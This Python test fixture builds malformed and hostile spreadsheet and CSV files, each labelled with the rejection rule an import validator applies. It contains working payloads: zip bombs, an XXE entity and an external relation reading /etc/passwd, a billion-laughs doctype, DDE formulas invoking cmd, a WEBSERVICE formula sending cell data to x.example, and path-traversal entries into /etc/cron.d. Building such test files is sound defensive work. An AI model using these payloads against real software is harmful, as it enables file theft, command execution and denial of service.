"""Files made to harm their reader, each with the rule by which it has to be refused."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import xlsxwriter

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    'sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}"/></Relationships>'
)
BOOK = (
    f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
)


def sheet(rows: str, after: str = "", before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData>{after}</worksheet>'


ROW = '<row r="1"><c r="A1"><v>1</v></c></row>'


def xlsx(page: str | bytes, *, more: dict[str, str | bytes] | None = None, types: str = TYPES) -> bytes:
    """A minimal workbook around one sheet's XML."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as book:
        parts = {
            "[Content_Types].xml": types,
            "_rels/.rels": RELS.format("officeDocument", "xl/workbook.xml"),
            "xl/workbook.xml": BOOK,
            "xl/_rels/workbook.xml.rels": RELS.format("worksheet", "worksheets/sheet1.xml"),
            "xl/worksheets/sheet1.xml": page,
        }
        for name, content in (parts | (more or {})).items():
            book.writestr(name, content)
    return made.getvalue()


def ods(content: str, mimetype: str = "application/vnd.oasis.opendocument.spreadsheet") -> bytes:
    """A minimal ods around the XML of its tables."""
    made = io.BytesIO()
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("mimetype", mimetype, zipfile.ZIP_STORED)
        book.writestr(
            "content.xml",
            f'<?xml version="1.0"?><office:document-content {spaces} office:version="1.2">'
            f"<office:body><office:spreadsheet>{content}</office:spreadsheet></office:body></office:document-content>",
        )
        book.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
    return made.getvalue()


def overlapping() -> bytes:
    """Many parts of the directory share one body: small on disk, endless when unpacked."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(b"0" * 900_000) + body.flush()
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), 900_000, 5, 0) + b"a.xml" + packed
    entries = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed), 900_000, 7, 0, 0, 0, 0, 0, 0)
        + b"%03d.xml" % number
        for number in range(200)
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 200, 200, len(entries), len(local), 0)
    return local + entries + end


def many_parts() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as book:
        for number in range(5_000):
            book.writestr(f"xl/{number}.xml", "")
    return made.getvalue()


def honest() -> bytes:
    """For faults that stand beside a good table."""
    made = io.BytesIO()
    with xlsxwriter.Workbook(made) as book:
        book.add_worksheet().write(0, 0, "x")
    return made.getvalue()


def with_part(name: str, content: bytes = b"x") -> bytes:
    made = io.BytesIO(honest())
    with zipfile.ZipFile(made, "a") as book:
        book.writestr(name, content)
    return made.getvalue()


def encrypted() -> bytes:
    data = bytearray(xlsx(sheet(ROW)))
    for at in range(len(data) - 4):
        if data[at : at + 4] == b"PK\x01\x02":
            data[at + 8] |= 1
    return bytes(data)


def huge_shared_string() -> bytes:
    page = sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    strings = f'<?xml version="1.0"?><sst xmlns="{MAIN}"><si><t>{"字甲乙丙丁戊己庚辛壬" * 20_000}</t></si></sst>'
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    return xlsx(page, more={"xl/sharedStrings.xml": strings, "xl/_rels/workbook.xml.rels": rels})


XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FAR = '<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>'
DEEP = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1000000"><c r="B1000000"><v>1</v></c></row>'
MANY_MERGED = (
    "<mergeCells>" + "".join(f'<mergeCell ref="A{row}:B{row}"/>' for row in range(1, 60_000)) + "</mergeCells>"
)
WIDE_MERGED = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
DDE = '<row r="1"><c r="A1"><f>cmd|\'/c calc\'!A0</f><v>1</v></c></row>'
FETCH = '<row r="1"><c r="A1"><f>WEBSERVICE("http://x.example/"&amp;A2)</f><v>1</v></c></row>'
OTHER_BOOK = '<row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>1</v></c></row>'
OUTSIDE_RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
    'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
)
ODS_REPEATED = (
    '<table:table table:name="S"><table:table-row table:number-rows-repeated="1000000">'
    '<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="500">'
    "<text:p>1</text:p></table:table-cell></table:table-row></table:table>"
)
ODS_DDE = '<table:table table:name="S"><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)" office:value-type="float" office:value="1"/></table:table-row></table:table>'  # noqa: E501


def files() -> Iterator[tuple[str, str, bytes]]:
    """(name, rule, content) of every hostile file."""
    yield "zeros.xlsx", "bomb", xlsx(sheet(ROW) + " " * 60_000_000)
    yield "overlapping.xlsx", "bomb", overlapping()
    yield "many-parts.xlsx", "parts", many_parts()
    yield "xxe.xlsx", "doctype", xlsx(sheet(ROW, before=XXE))
    yield "laughs.xlsx", "doctype", xlsx(sheet(ROW), more={"xl/styles.xml": LAUGHS + "<styleSheet/>"})
    yield "xxe-utf16.xlsx", "broken", xlsx(sheet(ROW, before=XXE).encode("utf-16"))
    yield "far-cell.xlsx", "columns", xlsx(sheet(FAR))
    yield "deep-cell.xlsx", "rows", xlsx(sheet(DEEP))
    yield "many-merged.xlsx", "merged", xlsx(sheet(ROW, MANY_MERGED))
    yield "wide-merged.xlsx", "merged", xlsx(sheet(ROW, WIDE_MERGED))
    yield "dde.xlsx", "outside", xlsx(sheet(DDE))
    yield "fetch.xlsx", "outside", xlsx(sheet(FETCH))
    yield "other-book.xlsx", "outside", xlsx(sheet(OTHER_BOOK))
    yield "link.xlsx", "outside", with_part("xl/externalLinks/externalLink1.xml")
    yield "relation.xlsx", "outside", with_part("xl/worksheets/_rels/sheet1.xml.rels", OUTSIDE_RELATION.encode())
    yield "connection.xlsx", "outside", with_part("xl/connections.xml")
    yield "macro.xlsm", "macros", with_part("xl/vbaProject.bin")
    yield "macro-type.xlsx", "macros", xlsx(sheet(ROW), types=TYPES.replace("sheet.main", "sheet.macroEnabled.main"))
    yield "excel4.xlsx", "macros", with_part("xl/macrosheets/sheet1.xml")
    yield "embedded.xlsx", "embedded", with_part("xl/embeddings/oleObject1.bin")
    yield "climbing.xlsx", "path", with_part("../../etc/cron.d/x")
    yield "absolute.xlsx", "path", with_part("/etc/cron.d/x")
    yield "backslash.xlsx", "path", with_part("..\\..\\x.xml")
    yield "long-name.xlsx", "path", with_part("xl/" + "a" * 4_000 + ".xml")
    yield "twice.xlsx", "twice", with_part("XL/WORKBOOK.XML")
    yield "huge-cell.xlsx", "huge", huge_shared_string()
    yield "password.xlsx", "password", encrypted()
    yield "torn.xlsx", "broken", honest()[:-60]
    yield "half.xlsx", "broken", xlsx("<worksheet><sheetData><row><c><v>")
    yield "binary.xlsb", "xlsb", _binary()
    yield "document.docx", "unknown", _document()
    yield "program.exe", "encoding", b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256)) * 8
    yield "picture.xlsx", "unknown", b"\x89PNG\r\n\x1a\n" + bytes(100)
    yield "page.xls", "page", b"<html xmlns:x='urn:schemas-microsoft-com:office:excel'><table><tr><td>1"
    yield "repeated.ods", "rows", ods(ODS_REPEATED)
    yield "dde.ods", "outside", ods(ODS_DDE)
    yield "text.odt", "unknown", ods("", "application/vnd.oasis.opendocument.text")
    yield "million-columns.csv", "columns_line", b"a,b\n" + b"," * 1_000_000 + b"\n"
    yield "huge-cell.csv", "huge_line", b'a,b\n"' + b"x" * 40_000 + b'",1\n'
    yield "quote.csv", "quotes", 'a,b\n"从此没有\n结尾,1\n'.encode()
    yield "nul.csv", "binary", b"a,b\n1,2\x00\n"
    yield "mixed.csv", "mixed", "名称,产值\n甲厂,1\n".encode() + "乙泵阀有限公司,2\n".encode("gb18030")
    yield "cut.csv", "cut", "名称,产值\n甲厂,1\n乙厂".encode()[:-1]
    yield "cut-gb.csv", "cut", "名称,产值\n甲厂,1\n乙厂".encode("gb18030")[:-1]
    yield "cut-utf16.csv", "cut", "名称\t产值\n甲厂\t1\n乙厂".encode("utf-16")[:-1]
    yield "lost.csv", "lost", "名称,产值\n甲\ufffd厂,1\n".encode()
    yield "empty.csv", "empty", b" \n \n"
    yield "nothing.xlsx", "empty", b""


def _binary() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("xl/workbook.bin", b"\x83\x01")
    return made.getvalue()


def _document() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("word/document.xml", "<w/>")
    return made.getvalue()
